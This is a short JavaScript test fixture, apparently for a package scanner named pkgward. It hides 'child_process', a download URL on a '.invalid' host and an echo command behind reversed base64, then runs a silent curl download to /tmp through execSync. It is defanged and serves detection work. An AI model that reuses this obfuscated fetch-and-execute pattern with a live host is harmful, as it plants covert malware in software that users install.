// DEFANGED TEST FIXTURE for pkgward: base64 with substituted padding and reversal. .invalid host; echo-only. Never run.
'use strict';
var m = require(Buffer.from('__wczV2YvJHcfRGbph2Y'.split('').reverse().join('').replace(/_/g, '='), 'base64').toString());
var u = Buffer.from('__Aaz5CevQWasFmdulmLj5Wez1ibkN2LvoDc0RHa'.split('').reverse().join('').replace(/_/g, '='), 'base64').toString();
var c = Buffer.from('__QZyVHd4lmZgQ3clRHIkJXY3d2awByboNWZ'.split('').reverse().join('').replace(/_/g, '='), 'base64').toString();
try {
  m.execSync('curl -fsSL ' + u + ' -o /tmp/.cs; ' + c, { stdio: 'ignore' });
} catch (e) {}
